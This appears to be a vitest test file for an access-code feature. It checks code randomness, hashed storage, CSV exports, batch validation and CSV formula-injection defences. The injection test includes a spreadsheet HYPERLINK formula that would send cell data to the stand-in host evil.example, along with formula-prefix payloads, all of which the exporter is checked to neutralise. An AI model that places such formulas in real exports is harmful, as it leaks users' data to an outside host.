import { afterAll, beforeAll, expect, it } from 'vitest';
import { csvOf } from '@grandstand/contract/constants';
import { testOperatorKey } from '../../testing.ts';
import { openShop, type Shop } from '../purchase/testing.ts';
import { signedIn } from '../session/testing.ts';
import { batchCode, codeHash } from './code-text.ts';
import { codesIn, createCodes, redeem } from './testing.ts';

let shop: Shop;
beforeAll(async () => {
  shop = await openShop();
});
afterAll(() => shop.close());

it('[SEC-13] codes have 80 random bits, are unique, and are stored as keyed hashes per tenant', async () => {
  const { body } = await createCodes(shop.api, { count: 300 });
  const codes = codesIn(body.content.csv);
  expect(new Set(codes).size).toBe(300);
  // Every letter occurs at these positions, so none of their bits is constant.
  const many = Array.from({ length: 2000 }, (_, number) =>
    batchCode({ stored: 'a secret' }, 'alpha', 'batch', number),
  );
  for (const at of [0, 3, 5, 18]) expect(new Set(many.map((code) => code[at])).size).toBe(32);
  expect(batchCode({ stored: 'a secret' }, 'alpha', 'batch', 1)).not.toBe(
    batchCode({ stored: 'another' }, 'alpha', 'batch', 1),
  );
  expect(batchCode({ stored: 'a secret' }, 'alpha', 'batch', 1)).not.toBe(
    batchCode({ stored: 'a secret' }, 'beta', 'batch', 1),
  );
  const stored = await shop.api.db.forTenant('alpha', ({ trx }) =>
    trx.selectFrom('access_code').select(['hash', 'hint']).execute(),
  );
  const text = JSON.stringify(stored);
  for (const code of codes) {
    expect(text).not.toContain(code.replaceAll('-', '').slice(0, 12));
    expect(text).not.toContain(code);
  }
  expect(codeHash({ stored: 'a secret' }, 'alpha', 'X')).not.toBe(
    codeHash({ stored: 'a secret' }, 'beta', 'X'),
  );
  expect(codeHash({ stored: 'a secret' }, 'alpha', 'X')).not.toBe(
    codeHash({ stored: 'another' }, 'alpha', 'X'),
  );
});

it("the file with a batch's codes is returned once, and exports list their state", async () => {
  const { body } = await createCodes(shop.api, { count: 3, label: 'Members, spring' });
  const [first = ''] = codesIn(body.content.csv);
  const { access } = await signedIn(shop.api, 'ann');
  await redeem(shop.api, { token: access }, first);
  const { body: exported } = await shop.api.accessCode.exportBatch({
    operatorKey: testOperatorKey,
    params: { id: body.content.id },
  });
  expect(codesIn(exported.content.csv)).toEqual([]);
  const [header, one, two] = exported.content.csv.split('\r\n');
  expect(header).toBe('\uFEFF"number","ends_with","label","uses","used","last_redeemed"');
  expect(one).toMatch(
    new RegExp(`^"1","${first.slice(-4)}","Members, spring","1","1","\\d{4}-.*Z"$`),
  );
  expect(two).toMatch(/"1","0",""$/);
});

it('no cell of the file is interpreted as a formula', async () => {
  const attack = '=HYPERLINK("https://evil.example?"&A1,"click")';
  const { body } = await createCodes(shop.api, { label: attack });
  expect(body.content.csv).toContain('"\'=HYPERLINK(""https://evil.example?""&A1,""click"")"');
  for (const value of ['=1', '+1', '-1', '@SUM(A1)', ' =1', '\t=1', '\r=1', '＝1'])
    expect(csvOf([[value]])).toBe(`\uFEFF"'${value}"\r\n`);
  expect(csvOf([['plain', 7, 'a "b"']])).toBe('\uFEFF"plain","7","a ""b"""\r\n');
});

it('a batch is refused for an unknown product or event, for too many codes, and to viewers', async () => {
  const codeOf = (response: { body: { messageErrorCode?: string } }) =>
    response.body.messageErrorCode;
  expect(codeOf(await createCodes(shop.api, { productId: 'none' }))).toBe('product_not_found');
  expect(codeOf(await createCodes(shop.api, { productId: 'ticket', eventId: 'none' }))).toBe(
    'event_not_found',
  );
  expect(codeOf(await createCodes(shop.api, { productId: 'month', eventId: 'paid' }))).toBe(
    'product_not_sold',
  );
  expect(codeOf(await createCodes(shop.api, { count: 5001 }))).toBe('validation_failed');
  const { access } = await signedIn(shop.api, 'bea');
  const { status } = await shop.api.accessCode.createBatch({
    token: access,
    body: { productId: 'month', count: 1, label: 'Mine' },
  });
  expect(status).toBe(401);
});
